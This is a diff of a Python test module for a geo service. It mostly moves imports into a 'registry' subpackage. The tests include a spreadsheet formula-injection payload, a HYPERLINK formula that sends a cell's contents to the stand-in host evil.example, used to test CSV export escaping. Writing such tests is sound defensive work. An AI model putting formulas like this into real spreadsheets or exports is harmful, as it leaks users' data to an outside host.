@@ -12,23 +12,23 @@ from fastapi.testclient import TestClient
 from sqlalchemy import update
 
 from geo_service.api import create_app
-from geo_service.auth import hash_password
 from geo_service.config import ServiceSettings
-from geo_service.importers import (
+from geo_service.outputs import csv_writer, spreadsheet_cell, unquote_cell
+from geo_service.registry.auth import hash_password
+from geo_service.registry.importers import (
     ImportContext,
     export_bytes,
     parse_resources,
     read_resource_table,
 )
-from geo_service.outputs import csv_writer, spreadsheet_cell, unquote_cell
-from geo_service.resources import (
+from geo_service.registry.resources import (
     Resource,
     ResourceFields,
     ResourceValidationError,
     validate_resource,
 )
-from geo_service.store.schema import resources
-from geo_service.store.testing import fresh_store
+from geo_service.registry.store.schema import resources
+from geo_service.registry.store.testing import fresh_store
 
 PAYLOADS = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
@@ -146,7 +146,7 @@ def test_import_rows_with_control_characters_are_row_problems(tmp_path):
 
 @pytest.fixture
 def api(tmp_path, monkeypatch):
-    monkeypatch.setattr("geo_service.auth.BCRYPT_ROUNDS", 4)
+    monkeypatch.setattr("geo_service.registry.auth.BCRYPT_ROUNDS", 4)
     store = fresh_store("sqlite", tmp_path)
     store.add_user("admin", hash_password("admin-pass-1"), role="admin")
     settings = ServiceSettings(database_url="sqlite://", data_dir=tmp_path, secret_key="k" * 40)
